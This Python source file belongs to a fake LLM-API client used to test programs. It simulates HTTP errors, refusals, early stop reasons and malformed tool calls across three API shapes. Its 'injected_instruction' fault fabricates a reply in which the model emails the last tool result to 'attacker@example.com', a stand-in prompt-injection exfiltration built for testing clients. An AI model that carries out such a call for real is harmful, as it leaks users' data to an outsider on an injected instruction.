"""What each fault (`fake_client.faults`) does to a call, in each API shape.

Two kinds. An HTTP error (`error_answer`) replaces the answer: status, body and headers as
the real API sends them, which the in-process clients raise as the SDK would and `serve`
sends as they are. A misbehaving reply (`misbehave`) is the normal reply JSON, changed after
it is written: so its ids, usage and streaming stay those of a real reply.

Sources (checked 2026-12):
- statuses, error types and the 529 "Overloaded" body: docs.claude.com/en/api/errors (HTTP
  errors, error shapes: every error body carries `request_id`); OpenAI's error codes guide
  (platform.openai.com/docs/guides/error-codes: 429 rate limit, 500 "The server had an error
  while processing your request. Sorry about that!", 503 "The engine is currently overloaded,
  please try again later.");
- the 429 wordings, as quoted in public reports: Anthropic "This request would exceed the
  rate limit for your organization of 30,000 input tokens per minute. For details, refer to:
  https://docs.anthropic.com/en/api/rate-limits. ..." (github.com/Trae-AI/TRAE/issues/625);
  OpenAI "Rate limit reached for gpt-4o-mini in organization org-… on requests per min (RPM):
  Limit 3, Used 3, Requested 1. Please try again in 20s. Visit
  https://platform.openai.com/account/rate-limits to learn more." with `type` "requests" and
  `code` "rate_limit_exceeded" (github.com/feder-cr/invisible_playwright_mcp/issues/249);
- `retry-after` on a 429 ("wait as long as retry-after says", docs.claude.com/en/api/rate-limits);
  both SDKs read `retry-after-ms` first, then `retry-after`, and sleep exactly that when it
  is above 0 (anthropic 2.17 / openai 3.63 `_base_client._calculate_retry_timeout`): the fake
  sends both, so a small wait keeps tests fast;
- stop reasons `refusal`, `pause_turn`, `model_context_window_exceeded`:
  platform.claude.com/docs/en/build-with-claude/handling-stop-reasons; OpenAI `refusal` on
  the message and `finish_reason` "content_filter": the Chat Completions object reference;
  Responses `incomplete_details.reason` "max_output_tokens" / "content_filter" and the
  `refusal` content part: the Responses object reference.
"""

from __future__ import annotations

import copy
import json
import math
import secrets
import string
from typing import Any, Optional

from ._conversation import Conversation
from ._errors import RequestRefused
from ._ids import IdCounter
from .faults import Fault
from .locales import phrase
from ._tokens import count_words, opening_words

# Which faults each API shape has (an HTTP error every shape has).
_ONLY = {"pause_turn": {"anthropic"}, "unlisted_stop_reason": {"anthropic"}, "no_preamble": {"anthropic"},
         "split_text": {"anthropic"}, "content_filter": {"openai", "openai_responses"},
         "invalid_json_arguments": {"openai", "openai_responses"}}
_SHAPE_NAMES = {"anthropic": "the Messages API", "openai": "Chat Completions",
                "openai_responses": "the Responses API"}

UNOFFERED_TOOL = ("run_command", {"command": "ls"})
# The faults that end a Messages reply early with a stop reason of their own. The API has
# added stop reasons over time (`tool_use`, `refusal`, `pause_turn`,
# `model_context_window_exceeded` came after the first ones); `unlisted_stop_reason` stands
# for the next one, so that a program that lists the values it rejects, instead of the ones
# it accepts, can be caught.
_EARLY_STOPS = {"pause_turn": "pause_turn", "context_window_exceeded": "model_context_window_exceeded"}


def unlisted_stop_reason() -> str:
    """A stop reason no program can know in advance: new random letters on every call, so
    that even a learner who printed the last one cannot add it to a list of rejected values
    (a fixed name could be learnt and listed). The only randomness of the fake; the program's
    output stays the same as long as it does not print this value."""
    return "".join(secrets.choice(string.ascii_lowercase) for _ in range(12))
INJECTED_TO = "attacker@example.com"


class FaultNotApplicable(ValueError):
    """A fault this API shape has no counterpart for (`content_filter` on the Messages API)."""


def check_applicable(fault: Fault, api: str) -> None:
    shapes = _ONLY.get(fault.name)
    if shapes is not None and api not in shapes:
        where = " and ".join(sorted(_SHAPE_NAMES[shape] for shape in shapes))
        raise FaultNotApplicable(f"fake_client fault {fault.name!r} has no counterpart in "
                                 f"{_SHAPE_NAMES[api]}: only {where} has it")


# --- HTTP errors ------------------------------------------------------------------------

_ANTHROPIC_ERRORS = {
    "rate_limit": (429, "rate_limit_error",
                   "This request would exceed the rate limit for your organization of 30,000 input tokens "
                   "per minute. For details, refer to: https://docs.anthropic.com/en/api/rate-limits. You can "
                   "see the response headers for current usage. Please reduce the prompt length or the "
                   "maximum tokens requested, or try again later. You may also contact sales at "
                   "https://www.anthropic.com/contact-sales to discuss your options for a rate limit increase."),
    "overloaded": (529, "overloaded_error", "Overloaded"),
    "server_error": (500, "api_error", "Internal server error"),
    # The tier's monthly spend cap: a 429 whose `error.details.error_code` says why, with no
    # retry-after (anthropic 2.17 raises `EnforcedSpendLimitReachedError`, a RateLimitError, for
    # it: `_error_classes.ERROR_CLASSES`; platform.claude.com/docs/en/api/errors). The message
    # is the fake's own.
    "spend_limit": (429, "rate_limit_error",
                    "Your organization has reached the monthly usage limit of its API tier. Access "
                    "resumes at the start of next month; a higher tier raises the limit."),
}
_ANTHROPIC_DETAILS = {"spend_limit": {"error_code": "enforced_spend_limit_reached"}}


def error_answer(fault: Fault, api: str, model: Any) -> tuple[int, dict[str, Any], dict[str, str]]:
    """The status, body (without `request_id`) and extra headers of an HTTP-error fault."""
    # A spend cap sends no retry-after and no x-should-retry: the SDKs retry a 429 on its status.
    headers = {} if fault.name == "spend_limit" else {"x-should-retry": "true"}
    if fault.name in ("rate_limit", "overloaded"):
        # Both SDKs read retry-after-ms first (more precise), then whole-second retry-after.
        headers["retry-after"] = str(math.ceil(fault.retry_after))
        headers["retry-after-ms"] = str(round(fault.retry_after * 1000))
    if api == "anthropic":
        status, kind, message = _ANTHROPIC_ERRORS[fault.name]
        error = {"type": kind, "message": message}
        if fault.name in _ANTHROPIC_DETAILS:
            error["details"] = _ANTHROPIC_DETAILS[fault.name]
        return status, {"type": "error", "error": error}, headers
    if fault.name == "spend_limit":
        # The code of developers.openai.com/api/docs/guides/spend-limits; the message is the fake's own.
        error = {"message": "You have reached your organization's hard spend limit for this month. Raise "
                            "the limit in your organization's limit settings to continue.",
                 "type": "insufficient_quota", "param": None, "code": "organization_spend_limit_exceeded"}
        return 429, {"error": error}, headers
    if fault.name == "rate_limit":
        wait = f"{fault.retry_after:g}s"
        error = {"message": f"Rate limit reached for {model} in organization org-fake on requests per min "
                            f"(RPM): Limit 3, Used 3, Requested 1. Please try again in {wait}. Visit "
                            "https://platform.openai.com/account/rate-limits to learn more.",
                 "type": "requests", "param": None, "code": "rate_limit_exceeded"}
        return 429, {"error": error}, headers
    if fault.name == "overloaded":
        error = {"message": "The engine is currently overloaded, please try again later.",
                 "type": "server_error", "param": None, "code": None}
        return 503, {"error": error}, headers
    error = {"message": "The server had an error while processing your request. Sorry about that!",
             "type": "server_error", "param": None, "code": None}
    return 500, {"error": error}, headers


def rate_limit_headers(api: str, *, exhausted: bool = False, reset_at: str = "") -> dict[str, str]:
    """The rate-limit headers every answer carries (docs.claude.com/en/api/rate-limits:
    `anthropic-ratelimit-{requests,tokens,input-tokens,output-tokens}-{limit,remaining,reset}`,
    reset an RFC 3339 time; OpenAI's rate-limits guide: `x-ratelimit-{limit,remaining,reset}-
    {requests,tokens}`, reset a duration such as "1s"). The figures are the fake's own; a
    429 fault shows the requests used up."""
    requests_left = "0" if exhausted else "49"
    if api == "anthropic":
        headers = {}
        for kind, limit in (("requests", "50"), ("tokens", "38000"), ("input-tokens", "30000"),
                            ("output-tokens", "8000")):
            headers[f"anthropic-ratelimit-{kind}-limit"] = limit
            headers[f"anthropic-ratelimit-{kind}-remaining"] = requests_left if kind == "requests" else limit
            headers[f"anthropic-ratelimit-{kind}-reset"] = reset_at
        return headers
    return {"x-ratelimit-limit-requests": "50", "x-ratelimit-limit-tokens": "200000",
            "x-ratelimit-remaining-requests": requests_left, "x-ratelimit-remaining-tokens": "200000",
            "x-ratelimit-reset-requests": "1s" if exhausted else "1.2s", "x-ratelimit-reset-tokens": "0s"}


def refuse_before_reply(fault: Optional[Fault], api: str, tokens: int, context: int) -> None:
    """`context_window_exceeded` on OpenAI: the real API refuses the request (HTTP 400
    `context_length_exceeded`) where Claude answers with a stop reason."""
    if fault is None:
        return
    check_applicable(fault, api)
    if fault.name != "context_window_exceeded" or api == "anthropic":
        return
    grown = context + tokens
    if api == "openai":
        raise RequestRefused(f"This model's maximum context length is {context} tokens. However, your "
                             f"messages resulted in {grown} tokens. Please reduce the length of the messages.",
                             param="messages", code="context_length_exceeded")
    raise RequestRefused(f"Your input exceeds the context window of this model ({context} tokens; "
                         f"the input is {grown}). Please adjust your input and try again.",
                         param="input", code="context_length_exceeded")


# --- misbehaving replies ------------------------------------------------------------------

def misbehave(fault: Optional[Fault], api: str, reply: dict[str, Any], *, body: dict[str, Any],
              conversation: Conversation, ids: IdCounter) -> dict[str, Any]:
    """`reply` as the fault changes it (a copy); the reply itself when there is no fault."""
    if fault is None or fault.is_error or fault.name == "context_window_exceeded" and api != "anthropic":
        return reply
    check_applicable(fault, api)
    shape = _SHAPES[api](copy.deepcopy(reply), body, ids)
    name = fault.name
    if name == "refusal":
        shape.refuse(phrase(conversation.language, "fault.refusal"))
    elif name in _EARLY_STOPS:
        shape.stop_early(_EARLY_STOPS[name])
    elif name == "unlisted_stop_reason":
        shape.stop_early(unlisted_stop_reason())
    elif name == "no_preamble":
        shape.no_preamble()
    elif name == "split_text":
        shape.split_text()
    elif name == "content_filter":
        shape.filtered()
    elif name == "reasoning_exhausted":
        shape.exhausted()
    elif name == "unoffered_tool":
        shape.only_call(*UNOFFERED_TOOL)
    elif name == "injected_instruction":
        results = conversation.last_results
        planted = results[-1].content if results else ""
        shape.only_call("send_email", {"to": INJECTED_TO, "body": planted})
    elif name in ("missing_required_argument", "invalid_json_arguments"):
        shape.spoil_call(name)
    return shape.reply


def _first_call_input(tools: list[tuple[str, dict[str, Any]]], fault: str) -> tuple[str, dict[str, Any]]:
    if not tools:
        raise FaultNotApplicable(f"fake_client fault {fault!r} needs a request that offers a tool")
    name, schema = tools[0]
    required = schema.get("required") if isinstance(schema, dict) else None
    return name, {key: "" for key in required or [] if isinstance(key, str)}


def _spoiled_input(value: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    """The input without its first required field (without its first field, if the schema
    requires none)."""
    required = [key for key in (schema.get("required") or []) if key in value] if isinstance(schema, dict) else []
    drop = required[0] if required else next(iter(value), None)
    return {key: item for key, item in value.items() if key != drop}


def _bad_json(value: dict[str, Any]) -> str:
    """The arguments as a model writes them when its JSON goes wrong: a trailing comma."""
    return json.dumps(value, ensure_ascii=False)[:-1] + ",}"


class _Shape:
    """One API shape's reply, changed in place by the fault's verbs."""

    def __init__(self, reply: dict[str, Any], body: dict[str, Any], ids: IdCounter) -> None:
        self.reply, self.body, self.ids = reply, body, ids

    def tools(self) -> list[tuple[str, dict[str, Any]]]:
        raise NotImplementedError

    def schema_of(self, name: str) -> dict[str, Any]:
        return next((schema for tool, schema in self.tools() if tool == name), {})

    def spoil_call(self, fault: str) -> None:
        calls = self.calls()
        if not calls:
            self.only_call(*_first_call_input(self.tools(), fault))
            calls = self.calls()
        name, value = self.call_input(calls[0])
        if fault == "missing_required_argument":
            self.set_input(calls[0], _spoiled_input(value, self.schema_of(name)))
        else:
            self.set_arguments(calls[0], _bad_json(value))


class _Anthropic(_Shape):
    def tools(self):
        return [(tool.get("name"), tool.get("input_schema") or {}) for tool in self.body.get("tools") or []
                if isinstance(tool, dict) and "input_schema" in tool]

    def calls(self):
        return [block for block in self.reply["content"] if block["type"] == "tool_use"]

    def call_input(self, call):
        return call["name"], call["input"]

    def set_input(self, call, value):
        call["input"] = value

    def refuse(self, text: str) -> None:
        # As the streaming classifiers refuse (platform.claude.com/docs/en/test-and-evaluate/
        # strengthen-guardrails/handle-streaming-refusals): the text written so far (here the
        # answer's first three words), no refusal message, and `stop_details`, whose
        # `category` and `explanation` may be null (they are here).
        opening = next((opening_words(block["text"]) for block in self.reply["content"] if block["type"] == "text"), "")
        self.reply.update(content=[{"text": opening, "type": "text"}] if opening else [],
                          stop_reason="refusal", stop_sequence=None,
                          stop_details={"category": None, "explanation": None, "type": "refusal"})

    def stop_early(self, reason: str) -> None:
        # The turn ended before its end (the context window full, or a long turn paused): no
        # calls, and the text only as far as it got, here its first half, so that a program
        # that shows such a reply as an answer shows an unfinished sentence.
        self.reply["content"] = [{**block, "text": opening_words(block["text"], max(1, count_words(block["text"]) // 2))}
                                 if block["type"] == "text" else block
                                 for block in self.reply["content"] if block["type"] != "tool_use"]
        self.reply.update(stop_reason=reason, stop_sequence=None)

    def no_preamble(self) -> None:
        # Claude usually says what it is about to do before its calls, not always: the text
        # before the first call goes, so that only a program reading blocks by type copes.
        content = self.reply["content"]
        first = next((index for index, block in enumerate(content) if block["type"] == "tool_use"), 0)
        self.reply["content"] = [block for index, block in enumerate(content)
                                 if index >= first or block["type"] != "text"]

    def split_text(self) -> None:
        # A reply with citations comes as several text blocks, a cited passage in a block of
        # its own (platform.claude.com/docs/en/build-with-claude/citations); the fake splits
        # its last text in two at a space past the middle, so that only the blocks joined in
        # order (not the last one, not the first) give the whole answer.
        content = self.reply["content"]
        last = next((index for index in reversed(range(len(content))) if content[index]["type"] == "text"), None)
        text = content[last]["text"] if last is not None else ""
        if len(text) < 2:
            return
        space = text.find(" ", len(text) // 2)
        cut = space + 1 if 0 <= space < len(text) - 1 else len(text) // 2
        head, tail = dict(content[last], text=text[:cut]), dict(content[last], text=text[cut:])
        self.reply["content"] = [*content[:last], head, tail, *content[last + 1:]]

    def exhausted(self) -> None:
        self.reply["content"] = [block for block in self.reply["content"] if block["type"] == "thinking"]
        self.reply.update(stop_reason="max_tokens", stop_sequence=None)
        self.reply["usage"]["output_tokens"] = self.body.get("max_tokens")

    def only_call(self, name: str, value: dict[str, Any]) -> None:
        thinking = [block for block in self.reply["content"] if block["type"] == "thinking"]
        call = {"id": self.ids.next("anthropic_call"), "input": value, "name": name, "type": "tool_use"}
        self.reply.update(content=[*thinking, call], stop_reason="tool_use", stop_sequence=None)


class _Chat(_Shape):
    def tools(self):
        return [(tool["function"].get("name"), tool["function"].get("parameters") or {})
                for tool in self.body.get("tools") or [] if isinstance(tool.get("function"), dict)]

    @property
    def choice(self) -> dict[str, Any]:
        return self.reply["choices"][0]

    def calls(self):
        return self.choice["message"].get("tool_calls") or []

    def call_input(self, call):
        try:
            value = json.loads(call["function"]["arguments"])
        except ValueError:
            value = {}
        return call["function"]["name"], value if isinstance(value, dict) else {}

    def set_input(self, call, value):
        call["function"]["arguments"] = json.dumps(value, ensure_ascii=False)

    def set_arguments(self, call, text):
        call["function"]["arguments"] = text

    def _message(self, **fields: Any) -> None:
        message = {"content": None, "refusal": None, "role": "assistant", **fields}
        self.choice["message"] = message

    def refuse(self, text: str) -> None:
        self._message(refusal=text)
        self.choice["finish_reason"] = "stop"

    def filtered(self) -> None:
        self._message()
        self.choice["finish_reason"] = "content_filter"

    def exhausted(self) -> None:
        # Reasoning used the whole budget: an empty answer, cut (OpenAI's reasoning guide).
        limit = self.body.get("max_completion_tokens") or self.body.get("max_tokens") or 4096
        self._message(content="")
        self.choice["finish_reason"] = "length"
        usage = self.reply["usage"]
        usage["completion_tokens"] = limit
        usage["total_tokens"] = usage["prompt_tokens"] + limit
        usage["completion_tokens_details"] = {**(usage.get("completion_tokens_details") or {}),
                                              "reasoning_tokens": limit}

    def only_call(self, name, value):
        call = {"id": self.ids.next("openai_call"),
                "function": {"arguments": json.dumps(value, ensure_ascii=False), "name": name},
                "type": "function"}
        self._message(tool_calls=[call])
        self.choice["finish_reason"] = "tool_calls"


class _Responses(_Shape):
    def tools(self):
        return [(tool.get("name"), tool.get("parameters") or {}) for tool in self.body.get("tools") or []
                if isinstance(tool, dict) and tool.get("type") == "function"]

    def calls(self):
        return [item for item in self.reply["output"] if item["type"] == "function_call"]

    def call_input(self, call):
        try:
            value = json.loads(call["arguments"])
        except ValueError:
            value = {}
        return call["name"], value if isinstance(value, dict) else {}

    def set_input(self, call, value):
        call["arguments"] = json.dumps(value, ensure_ascii=False)

    def set_arguments(self, call, text):
        call["arguments"] = text

    def _reasoning(self) -> list[dict[str, Any]]:
        return [item for item in self.reply["output"] if item["type"] == "reasoning"]

    def _ended(self, output: list[dict[str, Any]], incomplete: Optional[str] = None) -> None:
        self.reply["output"] = output
        self.reply["status"] = "incomplete" if incomplete else "completed"
        self.reply["incomplete_details"] = {"reason": incomplete} if incomplete else None
        self.reply["completed_at"] = None if incomplete else self.reply.get("completed_at") or self.reply["created_at"]

    def refuse(self, text):
        message = {"id": self.ids.next("responses_message"), "content": [{"refusal": text, "type": "refusal"}],
                   "role": "assistant", "status": "completed", "type": "message"}
        self._ended([*self._reasoning(), message])

    def filtered(self):
        self._ended(self._reasoning(), "content_filter")

    def exhausted(self):
        limit = self.body.get("max_output_tokens") or 4096
        reasoning = self._reasoning() or [{"id": self.ids.next("responses_reasoning"), "summary": [],
                                           "type": "reasoning"}]
        self._ended(reasoning, "max_output_tokens")
        usage = self.reply["usage"]
        usage["output_tokens"] = limit
        usage["total_tokens"] = usage["input_tokens"] + limit
        usage["output_tokens_details"] = {**(usage.get("output_tokens_details") or {}), "reasoning_tokens": limit}

    def only_call(self, name, value):
        call = {"arguments": json.dumps(value, ensure_ascii=False), "call_id": self.ids.next("openai_call"),
                "name": name, "type": "function_call", "id": self.ids.next("responses_function_call"),
                "status": "completed"}
        self._ended([*self._reasoning(), call])


_SHAPES = {"anthropic": _Anthropic, "openai": _Chat, "openai_responses": _Responses}
